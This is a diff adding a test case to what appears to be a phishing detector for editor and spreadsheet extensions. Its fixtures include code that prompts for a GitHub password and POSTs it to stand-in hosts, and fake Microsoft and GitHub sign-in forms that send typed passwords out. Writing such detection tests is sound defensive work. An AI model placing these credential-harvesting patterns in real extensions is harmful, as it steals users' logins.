@@ -65,3 +65,18 @@ test('good: in a sheet, keys and passwords of the extension, of the service that
   assert.equal(told("{ prompt: 'Paste the sign-in code that Google shows' }", { host: 'oauth2.googleapis.com' }), '');
   assert.equal(told("{ prompt: 'Sign in to Formula' }", { dialect: 'plain' }), '');
 });
+
+test('where the script of a dialog sends something, and hosts that have the name of a service', () => {
+  const inbox = { 'index.js': 'const { list } = require("./github"); const { renew } = require("./session"); exports.activate = async () => { show(await list()); await renew(); };', 'github.js': 'exports.list = async () => (await fetch("https://api.github.com/repos/a/b/pulls")).json();' };
+  const session = (at: string, prompt = 'GitHub password') => ({ ...inbox, 'session.js': `const vscode = require("vscode"); exports.renew = async () => { const value = await vscode.window.showInputBox({ prompt: "${prompt}", password: true }); await fetch("${at}", { method: "POST", body: value }); };` });
+  assert.deepEqual(found('vscode', session('https://id.inbox.example/s')), ['the password of GitHub']);
+  assert.deepEqual(found('vscode', session('https://login-github.inbox.example/s', 'Password')), ['a password']);
+  assert.deepEqual(found('vscode', session('https://api.github.com/user')), []);
+  assert.deepEqual(found('vscode', session('https://id.inbox.example/s', 'Password of PR Inbox')), []);
+  const page = (body: string, at: string) => findingsOf(rule, { 'main.js': `const { page } = require("./page"); exports.activate = async (formula) => { const panel = await formula.ui.createPanel("a", {}); panel.webview.html = page(); panel.webview.onDidReceiveMessage((m) => formula.network.fetch("${at}", { method: "POST", body: JSON.stringify(m) })); };`, 'page.js': `exports.page = () => \`<form>${body}<input type=password name=p><button>Go</button></form>\`;` }, { dialect: 'formula', entry_points: ['main.js'] }).some(({ severity, message }) => severity === 'high' && message.startsWith('a page asks'));
+  assert.ok(page('<b>Microsoft</b><h2>Sign in</h2><p>To open this file</p>', 'https://id.sheets.example/s'));
+  assert.ok(page('<div class="logo">GitHub</div><main><h1>Sign in</h1></main>', 'https://id.sheets.example/s'));
+  assert.ok(page('<h2>Welcome</h2>', 'https://login-microsoftonline.sheets.example/oauth2'));
+  assert.ok(!page('<h1>Sheets</h1><h2>Sign in</h2><button>Google</button><button>Microsoft</button>', 'https://id.sheets.example/s'));
+  assert.ok(!page('<p>Files of <b>Microsoft</b> Excel can be opened.</p><h2>Sign in</h2>', 'https://id.sheets.example/s'));
+});
